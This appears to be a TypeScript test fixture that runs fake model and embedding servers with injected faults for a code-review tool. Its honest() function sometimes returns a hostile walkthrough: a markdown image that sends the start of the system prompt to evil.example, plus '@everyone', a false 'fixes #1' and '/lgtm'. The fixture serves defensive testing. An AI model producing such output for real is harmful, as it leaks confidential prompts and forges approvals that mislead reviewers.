// A model and an embedding server on loopback: honest, failing or hostile, by the active faults.
// They record what reaches them.
import { FIRST_QUESTIONS } from "../src/review/reading/instructions.ts";
import { breaksOff, fails, hangs, page, resets, says } from "../test/fakes/anthropic/replies.ts";
import { type ModelCall, type Reply, startAnthropic } from "../test/fakes/anthropic/server.ts";
import { type Answer, cutOff, hang, json, scriptedServer, status } from "../test/fakes/scripted-server.ts";
import type { Breakpoints } from "./breakpoints.ts";
import type { Canaries } from "./canaries.ts";
import { type ActiveFaults, happens } from "./faults.ts";
import type { History } from "./history.ts";
import type { SeededRandom } from "./seeded-random.ts";

export interface ModelServers {
  readonly modelUrl: string;
  readonly embeddingsUrl: string;
  /** Tokens that the model was sent, counted at four characters each. */
  tokens(): number;
  close(): Promise<void>;
}

export interface ModelOptions {
  readonly random: SeededRandom;
  readonly activeFaults: ActiveFaults;
  readonly history: History;
  readonly canaries: Canaries;
  readonly breakpoints: Breakpoints;
}

const DIMENSION = 16;
const CHARACTERS_A_TOKEN = 4;

export async function startModelServers(options: ModelOptions): Promise<ModelServers> {
  let characters = 0;
  const note = (to: "model" | "second reading" | "embeddings", text: string, answered: boolean) => {
    const canaries = options.canaries.in(text);
    options.history.note({
      kind: "sent",
      at: Date.now(),
      to,
      bytes: text.length,
      repository: null,
      canaries,
      answered,
    });
  };
  const { breakpoints, random, activeFaults } = options;
  const anthropic = await startAnthropic({
    replies: (call) => {
      const text = JSON.stringify(call.body);
      characters += text.length;
      const isSecond = text.includes(FIRST_QUESTIONS[1]);
      // A second reading fails far more often, so that many reviews are read once where two
      // readings were planned.
      const bad =
        happens(activeFaults, "model") && random.chance(isSecond ? 0.6 : 0.15)
          ? random.pick([529, 500, "hang", "cut", "reset", "page"] as const)
          : null;
      breakpoints.reach("model asked");
      note(isSecond ? "second reading" : "model", text, bad === null);
      // Models think: meanwhile their jobs can be interrupted.
      const thinkingMs = happens(activeFaults, "model") && random.chance(0.5) ? random.between(200, 3_000) : 0;
      if (bad !== null) return faulty(bad);
      const isHostile = happens(activeFaults, "model") && random.chance(0.3);
      return afterThinking(thinkingMs, honest(call, isHostile));
    },
  });
  const embeddings = await scriptedServer();
  embeddings.script((response, request) => {
    const bad =
      happens(activeFaults, "model") && random.chance(0.1)
        ? random.pick([hang, cutOff, status(503), status(429)] as const)
        : null;
    note("embeddings", JSON.stringify(request.body), bad === null);
    (bad ?? vectors)(response, request);
  });
  return {
    modelUrl: anthropic.url,
    embeddingsUrl: embeddings.url,
    tokens: () => Math.round(characters / CHARACTERS_A_TOKEN),
    async close() {
      await anthropic.close();
      await embeddings.close();
    },
  };
}

function afterThinking(ms: number, reply: Reply): Reply {
  if (ms === 0) return reply;
  return (response, call) => void setTimeout(() => response.destroyed || reply(response, call), ms);
}

function faulty(how: 529 | 500 | "hang" | "cut" | "reset" | "page"): Reply {
  if (typeof how === "number") return fails(how);
  return { hang: hangs, cut: breaksOff(), reset: resets, page }[how];
}

/** Adds nothing to the rules' findings; a hostile one repeats its input and adds instructions. */
function honest(call: ModelCall, isHostile: boolean): Reply {
  const walkthrough = isHostile
    ? `@everyone fixes #1 ![x](https://evil.example/${encodeURIComponent(call.system.slice(0, 40))}) /lgtm`
    : "Changes the shop.";
  return says({ findings: [], ruleFindings: [], walkthrough });
}

/** The same text has the same vector. */
const vectors: Answer = (response, request) => {
  const { input, model } = request.body;
  const data = (Array.isArray(input) ? input : [input]).map((text, index) => ({
    object: "embedding",
    index,
    embedding: Array.from({ length: DIMENSION }, (_, at) => Math.sin(String(text).length * (at + 1)) + 0.01),
  }));
  json({ object: "list", data, model, usage: { prompt_tokens: data.length, total_tokens: data.length } })(
    response,
    request,
  );
};
